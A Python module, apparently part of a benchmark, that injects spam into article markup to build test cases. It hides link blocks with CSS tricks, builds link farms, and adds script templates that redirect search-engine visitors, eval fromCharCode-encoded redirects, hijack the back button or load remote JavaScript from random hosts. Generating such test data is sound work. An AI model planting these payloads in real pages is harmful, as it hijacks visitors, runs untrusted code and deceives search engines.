"""Attacks on markup: obsolete elements, hidden blocks, links, scripts that send visitors away."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from types import MappingProxyType
from typing import Literal

from bench.injected.shapes import Article, Line, Piece, Slot, Tools

Place = Slot | Literal["within", "between"]
_OBSOLETE = ("noframes", "listing", "address", "big", "tt", "xmp", "strike", "center", "samp", "bdo")
#: how a block is kept out of sight
HIDDEN: dict[str, str] = {
    "display": "display:none",
    "visibility": "visibility:hidden",
    "off_screen": "position:absolute;left:-9999px;top:-9999px",
    "indent": "text-indent:-9999px",
    "no_size": "font-size:0",
    "no_height": "height:0;overflow:hidden",
    "as_background": "color:#ffffff;background-color:#ffffff",
    "transparent": "opacity:0;position:absolute",
    "clipped": "position:absolute;clip:rect(0,0,0,0);width:1px;height:1px;overflow:hidden",
}
_REFERRER = (
    "<script>var r=document.referrer;if(/baidu|so\\.com|sogou/i.test(r)){{location.href='http://www.{host}/';}}"
    "</script>"
)
_CODED = "<script>document.write(unescape('%3Cscript src=//{host}/j.js%3E%3C/script%3E'));</script>"
_CHARS = "<script>eval(String.fromCharCode(108,111,99,97,116,105,111,110,46,104,114,101,102,61,39,47,47,{codes},39));</script>"
_BACK = (
    "<script>history.pushState(null,null,'#');window.onpopstate=function(){{location.href='//{host}/x';}};"
    "</script>"
)


def _other_host(tools: Tools) -> str:
    letters = "".join(tools.rng.choice("bcdfghjkmnprstvwxz") for _ in range(6))
    return f"{letters}{tools.rng.randint(10, 99)}.{tools.rng.choice(('com', 'xyz', 'top', 'vip'))}"


def _links(tools: Tools, words: list[str]) -> str:
    return "".join(f'<a href="http://www.{_other_host(tools)}/">{word}</a> ' for word in words)


def hidden(way: str, place: Place) -> Callable[[Article, Tools], Article]:
    """A block of links out of sight: inside the article, inside a paragraph, or at the page's rim."""

    def soil(article: Article, tools: Tools) -> Article:
        words = list(dict.fromkeys(tools.lures(tools.rng.randint(3, 7))))
        style = HIDDEN[way]
        if place == "within":
            text = "、".join(words)
            piece = Piece(text, True, f'<span style="{style}">', "</span>")
            return _into_paragraph(article, tools, piece)
        block = f'<div style="{style}">{_links(tools, words)}</div>'
        if place == "between":
            return _between(replace(article, foreign=tuple(words)), tools, block)
        return _around(article, place, block, words)

    return soil


def hidden_by_class(article: Article, tools: Tools) -> Article:
    """The rule that hides stands in a style sheet of the page, under a meaningless class."""
    words = list(dict.fromkeys(tools.lures(4)))
    name = "".join(tools.rng.choice("abcdefhkmnpqrtuvwx") for _ in range(5))
    block = f'<div class="{name}">{_links(tools, words)}</div>'
    styled = _around(article, "head", f"<style>.{name}{{position:absolute;left:-9999px}}</style>", [])
    return _between(replace(styled, foreign=tuple(words)), tools, block)


def marquee(article: Article, tools: Tools) -> Article:
    words = list(dict.fromkeys(tools.lures(5)))
    block = f'<marquee height="1" width="1" scrollamount="3000">{_links(tools, words)}</marquee>'
    return _around(article, "bottom", block, words)


def link_farm(article: Article, tools: Tools) -> Article:
    """More than five links to strangers in one visible block after the text."""
    words = list(dict.fromkeys(tools.lures(9)))
    while len(words) < 6:
        words = list(dict.fromkeys([*words, *tools.lures(3)]))
    return _between(
        replace(article, foreign=tuple(words)), tools, f"<div>{_links(tools, words)}</div>", last=True
    )


def junk(*, worded: bool) -> Callable[[Article, Tools], Article]:
    """Nested obsolete elements that share one random id, between the paragraphs; with keywords or empty."""

    def soil(article: Article, tools: Tools) -> Article:
        name = "".join(tools.rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(5))
        words: list[str] = []
        for _ in range(tools.rng.randint(2, 4)):
            tags = tools.rng.sample(_OBSOLETE, 3)
            text = tools.phrase() if worded else ""
            words += [text] * worded
            opened = "".join(f'<{tag} id="{name}">' for tag in tags)
            closed = "".join(f"</{tag}>" for tag in reversed(tags))
            article = _between(article, tools, f"{opened}{text}{closed}")
        trailing = "".join(tools.lures(4))
        lines = (*article.lines, Line("paragraph", (Piece(trailing, True),)))
        return replace(article, lines=lines, foreign=tuple(words))

    return soil


def script(kind: str, place: Slot) -> Callable[[Article, Tools], Article]:
    """Code that sends some visitors elsewhere; nothing of it is text."""

    def soil(article: Article, tools: Tools) -> Article:
        host = _other_host(tools)
        codes = ",".join(str(ord(letter)) for letter in host)
        code = {
            "referrer": _REFERRER.format(host=host),
            "written": _CODED.format(host=host),
            "chars": _CHARS.format(codes=codes),
            "back": _BACK.format(host=host),
            "short": f'<script src="//{host}/a.js"></script>',
            "refresh": f'<meta http-equiv="refresh" content="3;url=http://www.{host}/">',
        }[kind]
        return _around(article, place, code, [])

    return soil


def _around(article: Article, place: Slot, markup: str, words: list[str]) -> Article:
    around: dict[Slot, str] = {**article.around, place: article.around.get(place, "") + markup}
    return replace(article, around=MappingProxyType(around), foreign=(*article.foreign, *words))


def _between(article: Article, tools: Tools, markup: str, *, last: bool = False) -> Article:
    lines = list(article.lines)
    at = len(lines) if last else tools.rng.randint(1, len(lines) - 1)
    lines.insert(at, Line("raw", markup=markup))
    return replace(article, lines=tuple(lines))


def _into_paragraph(article: Article, tools: Tools, piece: Piece) -> Article:
    lines = list(article.lines)
    long = [at for at, line in enumerate(lines) if line.kind == "paragraph" and "，" in line.printed]
    at = tools.rng.choice(long)
    text = lines[at].printed
    cut = text.index("，") + 1
    lines[at] = replace(lines[at], pieces=(Piece(text[:cut]), piece, Piece(text[cut:])))
    return replace(article, lines=tuple(lines))
